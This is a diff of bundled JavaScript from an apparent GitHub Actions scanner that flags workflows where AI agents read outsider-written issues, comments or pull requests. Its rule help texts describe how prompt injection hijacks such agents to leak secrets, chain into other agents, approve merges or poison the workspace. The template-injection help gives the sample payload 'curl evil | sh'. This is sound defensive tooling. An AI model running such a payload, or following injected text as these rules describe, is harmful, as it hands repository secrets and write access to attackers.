-var upstreamMemo = /* @__PURE__ */ new WeakMap();
-function memoFor(byName) {
-  let memo = upstreamMemo.get(byName);
-  if (!memo) upstreamMemo.set(byName, memo = /* @__PURE__ */ new Map());
-  return memo;
-}
-function upstreamFiring(trigger, workflow, rules, byName, seen) {
-  const config = trigger.config;
-  const names = [];
-  if (config?.kind === "map") {
-    const list = config.pairs.find((p) => p.key.text === "workflows")?.value;
-    if (list?.kind === "seq") {
-      for (const i of list.items) if (i.kind === "scalar") names.push(i.text);
-    } else if (list?.kind === "scalar") {
-      names.push(list.text);
-    }
-  }
-  if (!names.length) return { firing: "anyone", uncertain: "workflow_run without a workflows list" };
-  seen.add(workflow);
-  let unresolved = 0;
-  for (const name of names) {
-    const known = memoFor(byName).get(name);
-    if (known === "outsiders") return { firing: "anyone" };
-    if (known === "maintainers") continue;
-    let outsiders = false;
-    let found = false;
-    for (const upstream of byName(name)) {
-      found = true;
-      if (seen.has(upstream)) continue;
-      const fired = upstream.triggers.map((t) => classify(t, upstream, rules, byName, seen));
-      if (fired.some((t) => t.firing === "anyone" || t.firing === "anyone-unprivileged")) {
-        outsiders = true;
-        break;
-      }
-    }
-    if (!found) {
-      unresolved++;
-      continue;
-    }
-    memoFor(byName).set(name, outsiders ? "outsiders" : "maintainers");
-    if (outsiders) return { firing: "anyone" };
-  }
-  if (unresolved) return { firing: "anyone", uncertain: `upstream workflow '${names.join("', '")}' not found in the repository` };
-  return { firing: "maintainers" };
 }
 
 // src/analysis/instances.ts
@@ -19897,645 +18907,6 @@ function mentionsName(text, name) {
   return false;
 }
 
-// src/analysis/reach.ts
-var REACH_ORDER = { none: 0, "action-gated": 1, maintainer: 2, "outsider-unprivileged": 3, outsider: 4 };
-var THREAD_EVENTS = /* @__PURE__ */ new Set([
-  "issues",
-  "issue_comment",
-  "pull_request",
-  "pull_request_target",
-  "pull_request_review",
-  "pull_request_review_comment",
-  "discussion",
-  "discussion_comment"
-]);
-var TRIGGERING_ACTOR = { kind: "context", role: "actor", events: null, what: "the triggering actor" };
-function reachOf(origin, step, actorGate) {
-  let best = { level: "none", how: "no trigger lets an outsider reach it" };
-  const hard = hardGates(step);
-  for (const trigger of step.job.triggers) {
-    const event = trigger.event;
-    if (origin.events && !origin.events.includes(event)) continue;
-    if (origin.kind === "thread" && !THREAD_EVENTS.has(event)) continue;
-    const candidate = reachOnTrigger(origin, step, trigger, hard, actorGate);
-    if (REACH_ORDER[candidate.level] > REACH_ORDER[best.level]) best = candidate;
-    if (best.level === "outsider") break;
-  }
-  return best;
-}
-function reachOnTrigger(origin, step, trigger, hard, actorGate) {
-  const event = trigger.event;
-  const role = origin.role;
-  const actorRoles = ACTOR_ROLES[event] ?? [];
-  const who = trigger.firing;
-  const envNote = hard.environment ? `environment '${hard.environment}' may require a reviewer's approval` : void 0;
-  const uncertain = [trigger.uncertain, envNote].filter(Boolean).join("; ") || void 0;
-  const outsiderFires = (who === "anyone" || who === "anyone-unprivileged" || who === "callers") && trigger.outsiderActions && !origin.maintainerChosen;
-  let fallback = { level: "none", how: "gated", uncertain };
-  if (outsiderFires) {
-    const attacker = /* @__PURE__ */ new Set(["actor", ...actorRoles, role]);
-    const blockedBy = directBlocker(hard, actorGate, event);
-    if (passes(step, scenario(event, trigger.outsiderActions, attacker, hard, step))) {
-      const callers = who === "callers" ? "whoever calls this reusable workflow (callers unknown here)" : "any GitHub user";
-      if (!blockedBy) {
-        const level = who === "anyone-unprivileged" ? "outsider-unprivileged" : "outsider";
-        return { level, trigger, how: `${callers} can fire '${event}'${describeTypes(trigger.outsiderActions)}`, uncertain: who === "callers" ? "reusable workflow with no caller in this repository" : uncertain };
-      }
-      if (actorGate && blockedBy === actorGate.description) {
-        fallback = { level: "action-gated", trigger, how: `${callers} can fire '${event}'; only ${actorGate.description} stops outsiders`, uncertain };
-      }
-    }
-  }
-  if ((origin.kind === "fetch" || origin.kind === "thread") && !origin.maintainerChosen && (event === "schedule" || event === "workflow_run" || event === "push")) {
-    if (passes(step, scenario(event, trigger.allActions, /* @__PURE__ */ new Set([role]), hard, step))) {
-      return { level: "outsider", trigger, how: `'${event}' runs unattended over text outsiders wrote (issues, comments, pull requests)`, uncertain };
-    }
-  }
-  const indirectPossible = role !== "actor" && (!actorRoles.includes(role) || hasMaintainerActions(trigger) || origin.kind !== "context");
-  if (indirectPossible && passes(step, scenario(event, trigger.allActions, /* @__PURE__ */ new Set([role, ...role === "pull_request" ? ["commit"] : []]), hard, step))) {
-    const whose = origin.kind === "context" ? `the ${origin.role.replace("_", " ")} an outsider wrote` : "text outsiders wrote";
-    return { level: "maintainer", trigger, how: `only a maintainer's '${event}' starts it, but over ${whose} (one click on a poisoned issue is enough)`, uncertain };
-  }
-  return fallback;
-}
-function describeTypes(actions) {
-  return actions.allowed ? ` (${actions.allowed.join(", ")})` : "";
-}
-function hasMaintainerActions(trigger) {
-  const outsider = trigger.outsiderActions;
-  if (!outsider) return true;
-  const all = trigger.allActions.allowed;
-  if (!all) return outsider.excluded.length > 0;
-  return all.some((a) => !outsider.allowed || !outsider.allowed.includes(a));
-}
-function directBlocker(hard, actorGate, event) {
-  if (hard.blockingCheck) return hard.blockingCheck;
-  if (actorGate?.enforcedOn(event)) return actorGate.description;
-  return void 0;
-}
-function scenario(event, actions, attacker, hard, step) {
-  return { event, actions, attacker, permissionSteps: hard.permissionSteps, permissionJobs: hard.permissionJobs, trustedBots: step.job.trust.bots };
-}
-function passes(step, s) {
-  for (const c of step.job.conditions) if (!canPass(c.expr, s)) return false;
-  for (const c of step.conditions) if (!canPass(c.expr, s)) return false;
-  return true;
-}
-function hardGates(step) {
-  const job = step.job;
-  const gates = { permissionSteps: /* @__PURE__ */ new Set(), permissionJobs: /* @__PURE__ */ new Set() };
-  if (job.job.environment) gates.environment = job.job.environment.name;
-  for (const s of job.steps) {
-    if (s.position >= step.position) break;
-    const kind = permissionCheckKind(s);
-    if (!kind) continue;
-    if (s.step.id) gates.permissionSteps.add(s.step.id);
-    if (kind === "fails" && !s.step.continueOnError) gates.blockingCheck = `the permission check in step '${s.step.label}'`;
-  }
-  for (const needed of allNeeds(job.needs)) {
-    if (needed.steps.some((s) => permissionCheckKind(s))) {
-      gates.permissionJobs.add(needed.job.id);
-      if (needed.steps.some((s) => permissionCheckKind(s) === "fails")) gates.blockingCheck = `the permission check in job '${needed.job.id}'`;
-    }
-  }
-  return gates;
-}
-function allNeeds(needs) {
-  const out = /* @__PURE__ */ new Set();
-  const stack = [...needs];
-  while (stack.length) {
-    const j = stack.pop();
-    if (out.has(j)) continue;
-    out.add(j);
-    stack.push(...j.needs);
-  }
-  return [...out];
-}
-var PERMISSION_ACTIONS = /^(actions-cool\/check-user-permission|sushichop\/action-repository-permission|prince-chrismc\/check-actor-permissions-action|lannonbr\/repo-permission-check-action|xt0rted\/slash-command-action|TheModdingInquisition\/actions-team-membership|tspascoal\/get-user-teams-membership)@/i;
-var PERMISSION_API = /getCollaboratorPermissionLevel|collaborators\/[^/\s]+\/permission|\/permission\b|checkMembershipForUser|getMembershipForUserInOrg|orgs\/[^/\s]+\/members\/|teams\/[^/\s]+\/memberships/;
-var FAILS = /setFailed|process\.exit\(\s*1|\bexit\s+1\b|throw\s+new\s+Error|core\.setFailed/;
-function permissionCheckKind(s) {
-  const uses = s.step.uses?.text ?? "";
-  if (PERMISSION_ACTIONS.test(uses)) {
-    return /actions-cool\/check-user-permission|membership/i.test(uses) ? "reports" : "fails";
-  }
-  const code3 = /^actions\/github-script@/i.test(uses) ? inputOf(s.step.with, "script")?.text ?? "" : s.step.run?.text ?? "";
-  if (!code3 || !PERMISSION_API.test(code3)) return null;
-  return FAILS.test(code3) ? "fails" : "reports";
-}
-
-// src/analysis/severity.ts
-var POWERFUL_SCOPES = /* @__PURE__ */ new Set(["*", "contents", "actions", "packages", "workflows", "deployments", "pages"]);
-function holdingOf(c) {
-  if (c.jailed) return "nothing";
-  const exfil = c.tools.shell === "full" || c.tools.network;
-  const nonModelSecrets = c.secrets.some((s) => !s.modelKey);
-  const hasTools = c.tools.shell !== "none" || c.tools.network || c.tools.writesFiles;
-  const tokenInHand = c.tokens.length > 0 && hasTools;
-  const powerfulToken = c.writeScopes.some((s) => POWERFUL_SCOPES.has(s)) && (tokenInHand || c.persistedCredentials);
-  const publishPower = nonModelSecrets || c.tokens.some((t) => t.foreign) || powerfulToken || c.idToken || c.selfHosted || c.cloudCredentials.length > 0;
-  if (c.tools.shell === "full" && !c.selfHosted) return "worm";
-  if ((exfil || c.tools.shell === "restricted") && publishPower) return "worm";
-  const anyWrite = c.writeScopes.length > 0;
-  const modelKey = c.keyInProcess && c.secrets.some((s) => s.modelKey);
-  if (exfil) return "acts";
-  if (tokenInHand && anyWrite) return "acts";
-  if (c.tools.shell === "restricted" && (anyWrite || nonModelSecrets || modelKey)) return "acts";
-  if (c.idToken && c.tools.shell !== "none") return "acts";
-  return "nothing";
-}
-function severityFor(reach, c) {
-  if (reach === "none") return null;
-  if (reach === "action-gated") return "low";
-  const holding = holdingOf(c);
-  if (reach === "outsider") return holding === "worm" ? "critical" : holding === "acts" ? "high" : "medium";
-  if (reach === "outsider-unprivileged") return "medium";
-  return holding === "nothing" ? "low" : "medium";
-}
-
-// src/checks/context.ts
-var DOCS_BASE = "https://github.com/agent-guard/agent-guard/blob/main/docs/rules";
-function docsUrl(id) {
-  return `${DOCS_BASE}/${id}.md`;
-}
-
-// src/checks/common.ts
-var CONFIDENCE_ORDER = { low: 0, medium: 1, high: 2 };
-function worstTaint(site, channels) {
-  let best = null;
-  for (const channel of channels) {
-    for (const taint of channel.taints) {
-      const reach = reachOf(taint.origin, site.step, site.actorGate);
-      if (reach.level === "none") continue;
-      const candidate = { channel, taint, reach };
-      if (!best || better(candidate, best)) best = candidate;
-    }
-  }
-  return best;
-}
-function better(a, b) {
-  const r = REACH_ORDER[a.reach.level] - REACH_ORDER[b.reach.level];
-  if (r) return r > 0;
-  const c = CONFIDENCE_ORDER[a.channel.confidence] - CONFIDENCE_ORDER[b.channel.confidence];
-  if (c) return c > 0;
-  return a.taint.hops.length < b.taint.hops.length;
-}
-function confidenceOf(hit) {
-  if (hit.reach.uncertain && hit.channel.confidence === "high") return "medium";
-  return hit.channel.confidence;
-}
-function siteLocation(site) {
-  const pos = positionOf(site.file, site.offset);
-  return { file: site.file.path, line: pos.line, column: pos.column };
-}
-function stepLocation(step, offset) {
-  const pos = positionOf(step.file, offset);
-  return { file: step.file.path, line: pos.line, column: pos.column };
-}
-function jobAndStep(step) {
-  return { job: step.job.job.id, step: step.step.label };
-}
-function pathOf(site, hit, sinkNote) {
-  const loc2 = siteLocation(site);
-  return [...site.step.job.via, ...hit.taint.hops, { ...loc2, note: sinkNote }];
-}
-function severityOf(hit, caps) {
-  return severityFor(hit.reach.level, caps);
-}
-function capabilityList(caps) {
-  return describeCapabilities(caps);
-}
-var PROVIDER_BY_KEY = { anthropic: "anthropic", openai: "openai", gemini: "gemini" };
-function fixFor(site, hit) {
-  const lines = [];
-  const event = hit?.reach.trigger?.event;
-  const obj2 = gateObject(event);
-  if (hit && (hit.reach.level === "outsider" || hit.reach.level === "outsider-unprivileged")) {
-    if (obj2) {
-      lines.push(
-        `Gate the job on who wrote the text: \`if: contains(fromJSON('["OWNER","MEMBER","COLLABORATOR"]'), github.event.${obj2}.author_association)\`.`
-      );
-    } else {
-      lines.push("Do not run the agent on events outsiders can fire, or gate the job on the actor's write access.");
-    }
-  }
-  const w = site.gateWidenedBy;
-  if (w && !w.inertWithout) lines.push(`Remove \`${w.input}: ${w.value}\` so the action's own write-access check applies.`);
-  if (w?.inertWithout) lines.push(`Remove \`${w.input}: ${w.value}\`: it opens the agent to outsiders as soon as \`${w.inertWithout}\` is set.`);
-  const c = site.capabilities;
-  if (c.jailed) {
-    lines.push("The agent runs in the jail and holds nothing; what remains is what its output and its writes to the workspace can steer (see poisoned-workspace and ai-output-unsafe).");
-  }
-  if (c.writeScopes.length || c.idToken) {
-    lines.push("Give the agent job `permissions: { contents: read }` (no id-token), and let a separate job without AI validate the agent's output (a JSON schema, an allowlist of labels) and do the writes.");
-  }
-  if (c.tokens.some((t) => t.foreign)) lines.push("Do not hand the agent a personal access token or App token; use the job's short-lived GITHUB_TOKEN with read permissions.");
-  if (c.persistedCredentials) lines.push("Set `persist-credentials: false` on actions/checkout.");
-  if (c.secrets.some((s) => !s.modelKey)) lines.push(`Move secrets the agent does not need (${c.secrets.filter((s) => !s.modelKey).map((s) => s.name).join(", ")}) out of its job.`);
-  const provider = providerFor(site);
-  if (site.cli && !c.jailed) {
-    lines.push(`Run it in the jail: \`agent-guard run${provider ? ` --provider ${provider}` : ""} -- ${site.cli.commands[0]} ...\` (no secrets, no network but the model API, the key held by a proxy).`);
-  } else if (site.action) {
-    if (c.jailed) {
-    } else if (site.action.id.startsWith("claude-code-action")) {
-      lines.push("Run Claude Code in the jail: `agent-guard wrap claude` installs a wrapper; set `path_to_claude_code_executable` to it.");
-    } else if (site.action.cli) {
-      lines.push(`Replace the action with its CLI under the jail: \`agent-guard run${provider ? ` --provider ${provider}` : ""} -- ${site.action.cli} ...\`.`);
-    }
-  }
-  if (hit && (hit.channel.kind === "prompt" || hit.channel.kind === "script" || hit.channel.kind === "env")) {
-    lines.push("Pass outsider text as data the agent reads with no tools that matter, never as instructions: moving it into env: protects a shell, not a prompt.");
-  }
-  return lines.join(" ");
-}
-function providerFor(site) {
-  const p = site.cli?.provider;
-  if (p) return p;
-  return site.action?.cli ? PROVIDER_BY_KEY[site.action.cli] : void 0;
-}
-function gateObject(event) {
-  switch (event) {
-    case "issues":
-      return "issue";
-    case "issue_comment":
-    case "discussion_comment":
-    case "pull_request_review_comment":
-      return "comment";
-    case "pull_request_target":
-    case "pull_request":
-      return "pull_request";
-    case "pull_request_review":
-      return "review";
-    case "discussion":
-      return "discussion";
-    default:
-      return null;
-  }
-}
-function describeReach(hit) {
-  switch (hit.reach.level) {
-    case "outsider":
-      return hit.reach.how;
-    case "outsider-unprivileged":
-      return `${hit.reach.how} (from a fork: no secrets, read-only token)`;
-    case "maintainer":
-    case "action-gated":
-      return hit.reach.how;
-    default:
-      return "not reachable";
-  }
-}
-
-// src/checks/agentGateDisabled.ts
-var agentGateDisabled = {
-  meta: {
-    id: "agent-gate-disabled",
-    title: "An agent action's built-in write-access check is switched off",
-    severity: "high",
-    docs: docsUrl("agent-gate-disabled"),
-    help: 'claude-code-action, droid-action, codex-action and opencode refuse to run for users without write access unless an input opens them (`allowed_non_write_users: "*"`, `allowed_bots: "*"`, `allow-users: "*"`). On a trigger outsiders can fire, that input hands the agent, and everything it holds, to anyone who can open an issue. Remove the input, or keep it only on a job that holds nothing.'
-  },
-  run(ctx) {
-    const findings = [];
-    for (const site of ctx.sites) {
-      const widened = site.gateWidenedBy;
-      if (!widened) continue;
-      const reach = reachOf(TRIGGERING_ACTOR, site.step);
-      if (reach.level !== "outsider") continue;
-      const openToAnyone = widened.value.trim() === "*" || widened.effect === "anyone";
-      const holding = holdingOf(site.capabilities);
-      let severity = holding === "nothing" ? "medium" : "high";
-      if (widened.effect === "bots" || !/^\*$/.test(widened.value.trim())) severity = holding === "nothing" ? "low" : "medium";
-      if (widened.inertWithout) severity = "low";
-      const at = widened.node?.start ?? site.offset;
-      findings.push({
-        rule: "agent-gate-disabled",
-        severity,
-        confidence: "high",
-        ...stepLocation(site.step, at),
-        ...jobAndStep(site.step),
-        message: widened.inertWithout ? `\`${widened.input}: ${widened.value.trim()}\` would switch off ${site.agentName}'s write-access check, and does as soon as \`${widened.inertWithout}\` is set: ${reach.how}.` : `\`${widened.input}: ${widened.value.trim()}\` switches off ${site.agentName}'s write-access check${openToAnyone ? "" : " for the listed users or bots"}: ${reach.how}.`,
-        path: [],
-        capabilities: capabilityList(site.capabilities),
-        fix: fixFor(site, null)
-      });
-    }
-    return findings;
-  }
-};
-
-// src/checks/agentOutputLeak.ts
-var TRANSCRIPTS = /\.claude\/projects|\.claude\b|\.gemini\/tmp|\.codex\/sessions|\.codex\b|transcript|session[-_ ]?log|\.opencode|\.goose/i;
-var agentOutputLeak = {
-  meta: {
-    id: "agent-output-leak",
-    title: "An outsider-reachable agent's full output or transcripts are published",
-    severity: "medium",
-    docs: docsUrl("agent-output-leak"),
-    help: "Workflow logs, step summaries and artifacts of a public repository are public. Inputs like claude-code-action's `show_full_output`, run-gemini-cli's `gemini_debug` and `upload_artifacts`, or an upload of the agent's session folder, publish everything the agent saw and did \u2014 a hijacked agent only has to read a secret to publish it, since secret masking covers only values GitHub knows. Leave these off on jobs outsiders can trigger, and upload only the structured result the next job needs."
-  },
-  run(ctx) {
-    const findings = [];
-    for (const site of ctx.sites) {
-      const reach = reachOf(TRIGGERING_ACTOR, site.step, site.actorGate);
-      if (reach.level !== "outsider" && reach.level !== "maintainer") continue;
-      for (const leak of leaks(site)) {
-        findings.push({
-          rule: "agent-output-leak",
-          severity: reach.level === "outsider" && !site.capabilities.jailed ? "medium" : "low",
-          confidence: "medium",
-          ...stepLocation(leak.step, leak.offset),
-          ...jobAndStep(leak.step),
-          message: `${leak.what} of ${site.agentName} (step '${site.step.step.label}'): ${reach.how}.`,
-          path: [],
-          capabilities: capabilityList(site.capabilities),
-          fix: "Turn it off on jobs outsiders can reach; publish only a validated, structured result."
-        });
-      }
-    }
-    return findings;
-  }
-};
-function leaks(site) {
-  const out = [];
-  for (const name of site.action?.leakInputs ?? []) {
-    const entry = inputOf(site.step.step.with, name);
-    const value = entry?.text.trim().toLowerCase() ?? "";
-    if (entry && value && value !== "false" && value !== "0" && value !== "manual" && value !== "disabled") {
-      out.push({ step: site.step, offset: entry.value.start, what: `\`${entry.name}: ${entry.text.trim()}\` publishes the output` });
-    }
-  }
-  for (const later of site.step.job.steps) {
-    if (later.position <= site.step.position || !/^actions\/upload-artifact@/i.test(later.step.uses?.text ?? "")) continue;
-    const path14 = inputOf(later.step.with, "path");
-    if (path14 && TRANSCRIPTS.test(path14.text)) {
-      out.push({ step: later, offset: path14.value.start, what: `step '${later.step.label}' uploads the session transcripts (${path14.text.trim()})` });
-    }
-  }
-  return out;
-}
-
-// src/checks/siteRule.ts
-function siteRule(meta, origins2, message, sinkNote) {
-  return {
-    meta,
-    run(ctx) {
-      const findings = [];
-      for (const site of ctx.sites) {
-        const channels = site.channels.map((c) => ({ ...c, taints: c.taints.filter((t) => origins2.includes(t.origin.kind)) })).filter((c) => c.taints.length);
-        const hit = worstTaint(site, channels);
-        if (!hit) continue;
-        const severity = severityOf(hit, site.capabilities);
-        if (!severity) continue;
-        findings.push({
-          rule: meta.id,
-          severity,
-          confidence: confidenceOf(hit),
-          ...siteLocation(site),
-          ...jobAndStep(site.step),
-          message: `${message(site, hit)}: ${describeReach(hit)}.`,
-          path: pathOf(site, hit, `${sinkNote} (${hit.channel.name})`),
-          related: relatedSources(site, channels, hit),
-          capabilities: capabilityList(site.capabilities),
-          fix: fixFor(site, hit)
-        });
-      }
-      return findings;
-    }
-  };
-}
-function relatedSources(site, channels, chosen) {
-  const out = [];
-  const seen = /* @__PURE__ */ new Set([key(chosen.taint.hops[0])]);
-  for (const channel of channels) {
-    for (const taint of channel.taints) {
-      const first = taint.hops[0];
-      if (!first || seen.has(key(first))) continue;
-      if (reachOf(taint.origin, site.step, site.actorGate).level === "none") continue;
-      seen.add(key(first));
-      out.push(first);
-    }
-  }
-  return out.slice(0, 20);
-}
-function key(h) {
-  return h ? `${h.file}:${h.line}:${h.column}` : "";
-}
-
-// src/checks/agentReadsUntrusted.ts
-var agentReadsUntrusted = siteRule(
-  {
-    id: "agent-reads-untrusted",
-    title: "An AI agent fetches outsider-written issues, comments or pull requests itself",
-    severity: "critical",
-    docs: docsUrl("agent-reads-untrusted"),
-    help: "The agent fetches the issue or pull-request thread (or is told to, e.g. `gh issue view`, GitHub MCP tools), so text written by anyone reaches it even though the workflow interpolates nothing. A scheduled agent that reads open issues is reachable by every outsider, one hour later. Treat the agent as holding untrusted input: no secrets, no write token, no shell, and run it under `agent-guard run`."
-  },
-  ["thread", "fetch"],
-  (site, hit) => `${site.agentName} reads ${hit.taint.origin.what}`,
-  "the agent reads it at run time"
-);
-
-// src/checks/templateInjection.ts
-function codeSinks(step) {
-  const out = [];
-  if (step.step.run) out.push({ node: step.step.run, what: "the run script" });
-  if (/^actions\/github-script@/i.test(step.step.uses?.text ?? "")) {
-    const script = inputOf(step.step.with, "script");
-    if (script?.value.kind === "scalar") out.push({ node: script.value, what: "the github-script script" });
-  }
-  return out;
-}
-function sinkTaints(step, node, engine) {
-  return engine.templates(node.text, (o, l) => locateInScalar(step.file, node, o, l), step.file, { job: step.job, step });
-}
-var templateInjection = {
-  meta: {
-    id: "template-injection",
-    title: "Outsider-controlled text is expanded into a shell script",
-    severity: "critical",
-    docs: docsUrl("template-injection"),
-    help: '`${{ }}` is expanded before the shell runs, so text like an issue title becomes code: `a"; curl evil | sh; echo "`. The script runs with every secret and token of the job. Pass the value through `env:` and use `"$VAR"` in the script.'
-  },
-  run(ctx) {
-    const findings = [];
-    for (const step of ctx.steps) {
-      for (const sink2 of codeSinks(step)) {
-        for (const taint of sinkTaints(step, sink2.node, ctx.engine)) {
-          if (taint.origin.kind === "ai-output") continue;
-          const reach = reachOf(taint.origin, step);
-          const caps = shellCapabilities(step);
-          const severity = severityFor(reach.level, caps);
-          if (!severity) continue;
-          const sink3 = taint.hops[taint.hops.length - 1];
-          findings.push({
-            rule: "template-injection",
-            severity,
-            confidence: taint.hops.some((h) => h.note.startsWith("assumed")) ? "low" : "high",
-            file: sink3.file,
-            line: sink3.line,
-            column: sink3.column,
-            ...jobAndStep(step),
-            message: `${taint.origin.what} is expanded into ${sinkLabel(step)}: ${reach.how}.`,
-            path: [...step.job.via, ...taint.hops],
-            capabilities: capabilityList(caps),
-            fix: 'Move the value into `env:` (e.g. `env: { TITLE: ${{ github.event.issue.title }} }`) and use "$TITLE" in the script, quoted.'
-          });
-        }
-      }
-    }
-    return findings;
-  }
-};
-function sinkLabel(step) {
-  return step.step.run ? `the run script of step '${step.step.label}'` : `the github-script of step '${step.step.label}'`;
-}
-
-// src/checks/aiOutputUnsafe.ts
-var MERGE = /\bgh\s+pr\s+(merge|review\b[^\n]*--approve)|pulls\.(merge|createReview)|enablePullRequestAutoMerge|auto-merge|--admin\b/;
-var aiOutputUnsafe = {
-  meta: {
-    id: "ai-output-unsafe",
-    title: "A model's output is used as code, as another agent's prompt, or to decide a merge",
-    severity: "critical",
-    docs: docsUrl("ai-output-unsafe"),
-    help: "Whoever steers the model's input steers its output. Expanding `${{ steps.ai.outputs.response }}` into a script turns a prompt injection into a command injection; feeding it to another agent chains the injection; letting it decide a merge or approval lets the outsider approve their own change. Pass model output through `env:` and treat it as data: validate it against a schema or an allowlist in a step without AI."
-  },
-  run(ctx) {
-    const findings = [];
-    for (const step of ctx.steps) {
-      let reachCache;
-      const reachOfStep = () => reachCache ??= reachOf(TRIGGERING_ACTOR, step);
-      for (const sink2 of codeSinks(step)) {
-        for (const taint of sinkTaints(step, sink2.node, ctx.engine)) {
-          if (taint.origin.kind !== "ai-output") continue;
-          const reach2 = reachOfStep();
-          if (reach2.level === "none") continue;
-          const caps = shellCapabilities(step);
-          findings.push(finding(step, taint, severityFor(reach2.level, caps) ?? "medium", `${taint.origin.what} is expanded into ${sink2.what} of step '${step.step.label}'`, reach2.how, capabilityList(caps)));
-        }
-      }
-      const decides = step.step.run && MERGE.test(step.step.run.text) || MERGE.test(step.step.with.map((w) => w.text).join("\n"));
-      const reach = decides ? reachOfStep() : void 0;
-      if (decides && reach && reach.level !== "none") {
-        const inputs = [
-          ...step.conditions.map((c) => c.node),
-          ...step.job.conditions.map((c) => c.node)
-        ];
-        for (const node of inputs) {
-          const taints = ctx.engine.ofScalar(node, step.file, { job: step.job, step }).filter((t) => t.origin.kind === "ai-output");
-          for (const taint of taints.slice(0, 1)) {
-            findings.push(finding(step, taint, reach.level === "outsider" ? "high" : "medium", `${taint.origin.what} decides whether step '${step.step.label}' merges or approves`, reach.how, []));
-          }
-        }
-      }
-    }
-    for (const site of ctx.sites) {
-      const reach = reachOf(TRIGGERING_ACTOR, site.step, site.actorGate);
-      if (reach.level === "none") continue;
-      for (const channel of site.channels) {
-        if (channel.kind !== "prompt" && channel.kind !== "config") continue;
-        const taint = channel.taints.find((t) => t.origin.kind === "ai-output");
-        if (!taint) continue;
-        const loc2 = siteLocation(site);
-        findings.push({
-          ...finding(site.step, taint, reach.level === "outsider" ? "high" : "medium", `${taint.origin.what} becomes the ${channel.name} of ${site.agentName}`, reach.how, capabilityList(site.capabilities)),
-          ...loc2,
-          path: [...taint.hops, { ...loc2, note: "the second agent reads it as instructions" }]
-        });
-      }
-    }
-    return findings;
-  }
-};
-function finding(step, taint, severity, message, how, capabilities) {
-  const sink2 = taint.hops[taint.hops.length - 1];
-  return {
-    rule: "ai-output-unsafe",
-    severity,
-    confidence: "high",
-    file: sink2.file,
-    line: sink2.line,
-    column: sink2.column,
-    ...jobAndStep(step),
-    message: `${message}: ${how}.`,
-    path: [...step.job.via, ...taint.hops],
-    capabilities,
-    fix: 'Pass the output through `env:` (`env: { ANSWER: ${{ steps.ai.outputs.response }} }`, then "$ANSWER") and validate it in a step without AI: parse it as JSON against a schema, intersect labels with an allowlist, never let it decide a merge.'
-  };
-}
-
-// src/checks/poisonedWorkspace.ts
-var EXECUTES_OR_PUBLISHES = /(^|[\s;&|(])(npm|npx|yarn|pnpm|bun|node|make|pip3?|python3?|poetry|tox|pytest|go|cargo|mvn|gradle|\.\/gradlew|rake|bundle|dotnet|docker\s+(build|push)|twine|gem\s+push|git\s+(commit|push)|gh\s+(release|pr\s+create)|\.\/[\w./-]+)(\s|$)/m;
-var poisonedWorkspace = {
-  meta: {
-    id: "poisoned-workspace",
-    title: "Steps after an outsider-reachable agent run or publish what the agent could write",
-    severity: "critical",
-    docs: docsUrl("poisoned-workspace"),
-    help: "An agent that read outsider text can write files in the workspace (package.json scripts, Makefiles, .git/hooks, lockfiles, source). Later steps of the same job that build, test, commit, push or publish run those files with the job's secrets \u2014 even when the agent itself was jailed. Run the agent in its own job and hand its result to the next job as a validated artifact (a patch reviewed by a human, JSON checked against a schema), or run it with `agent-guard run --workspace ro`."
-  },
-  run(ctx) {
-    const findings = [];
-    for (const site of ctx.sites) {
-      if (!site.capabilities.tools.writesFiles && site.capabilities.tools.shell === "none") continue;
-      if (site.cli && /--workspace[=\s]+ro\b/.test(site.promptText) && site.capabilities.jailed) continue;
-      const reach = bestReach(site);
-      if (!reach) continue;
-      const later = site.step.job.steps.filter((s) => s.position > site.step.position && executesOrPublishes(s));
-      for (const step of later) {
-        const caps = shellCapabilities(step);
-        const severity = reach.level === "outsider" ? caps.secrets.some((s) => !s.modelKey) || caps.writeScopes.length ? "critical" : "high" : "medium";
-        const at = step.step.run?.start ?? step.step.uses?.start ?? step.step.node.start;
-        findings.push({
-          rule: "poisoned-workspace",
-          severity,
-          confidence: "medium",
-          ...stepLocation(step, at),
-          ...jobAndStep(step),
-          message: `step '${step.step.label}' runs or publishes the workspace after ${site.agentName} (step '${site.step.step.label}') could write to it: ${reach.how}.`,
-          path: [{ ...siteLocation(site), note: `${site.agentName} reads outsider text and can write files` }, { ...stepLocation(step, at), note: "a later step executes or publishes the workspace" }],
-          capabilities: capabilityList(caps),
-          fix: "Move the agent to its own job (no secrets) and pass its result as an artifact the next job validates; or run it with `agent-guard run --workspace ro`. Never build, commit or publish in the agent's job after it ran."
-        });
-      }
-    }
-    return findings;
-  }
-};
-function bestReach(site) {
-  let best = null;
-  for (const channel of site.channels) {
-    for (const taint of channel.taints) {
-      const reach = reachOf(taint.origin, site.step, site.actorGate);
-      if (reach.level === "none" || reach.level === "action-gated" || reach.level === "outsider-unprivileged") continue;
-      if (!best || REACH_ORDER[reach.level] > REACH_ORDER[best.level]) best = reach;
-    }
-  }
-  return best;
-}
-function executesOrPublishes(step) {
-  const uses = step.step.uses?.text ?? "";
-  if (uses.startsWith("./")) return true;
-  if (/^(softprops\/action-gh-release|peter-evans\/create-pull-request|stefanzweifel\/git-auto-commit-action|pypa\/gh-action-pypi-publish|JS-DevTools\/npm-publish)@/i.test(uses)) return true;
-  const run = step.step.run?.text;
-  return !!run && EXECUTES_OR_PUBLISHES.test(run);
-}
-
-// src/checks/promptInjection.ts
-var promptInjection = siteRule(
-  {
-    id: "prompt-injection",
-    title: "Outsider-controlled text reaches an AI agent",
-    severity: "critical",
-    docs: docsUrl("prompt-injection"),
-    help: "Text that anyone on the internet can write (an issue title, a comment, a branch name) reaches the prompt, configuration or environment of an AI agent. The agent cannot tell instructions from data, so the author of that text steers it and can use whatever the agent holds: secrets, the GitHub token, a shell, the network. Gate the job on the author, take every secret and write permission away from the agent job, and run the agent under `agent-guard run`."
-  },
-  ["context"],
-  (site, hit) => `${hit.taint.origin.what} reaches ${site.agentName} through ${hit.channel.name}`,
-  "the agent reads it"
-);
-
 // src/checks/untrustedCheckout.ts
 var RUNS_WORKSPACE_CODE = /(^|[\s;&|(])(npm|npx|yarn|pnpm|bun|bunx|node|deno|make|cmake|pip3?|python3?|uv|poetry|tox|pytest|go|cargo|mvn|gradle|\.\/gradlew|ant|rake|bundle|ruby|composer|php|dotnet|docker\s+(build|compose)|bash|sh|zsh|pwsh|\.\/[\w./-]+)(\s|$)/m;
 var untrustedCheckout = {
@@ -20773,8 +19144,722 @@ function secretNames(text) {
 
 // src/checks/index.ts
 var CHECKS = [promptInjection, agentReadsUntrusted, untrustedInstructions, agentGateDisabled, aiOutputUnsafe, templateInjection, untrustedCheckout, poisonedWorkspace, agentOutputLeak, unresolvedRemote];
